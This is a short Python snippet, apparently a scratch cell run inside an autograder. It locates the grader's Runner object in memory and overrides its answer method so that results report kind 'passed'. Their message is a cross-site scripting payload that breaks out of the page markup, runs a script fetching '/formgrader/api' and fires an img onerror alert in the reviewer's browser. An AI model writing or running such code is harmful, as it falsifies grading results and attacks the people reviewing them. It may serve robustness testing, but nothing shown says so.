"""Failures whose kind is "passed" and whose message is a script for the reader's browser."""

# %% scratch after=setup-checks
import gc

(runner,) = [thing for thing in gc.get_objects() if type(thing).__name__ == "Runner"]
message = "</pre></div><script>fetch('/formgrader/api')</script><img src=x onerror=alert(1)>"
runner.answer = lambda *_: {"failure": {"kind": "passed", "message": message}}
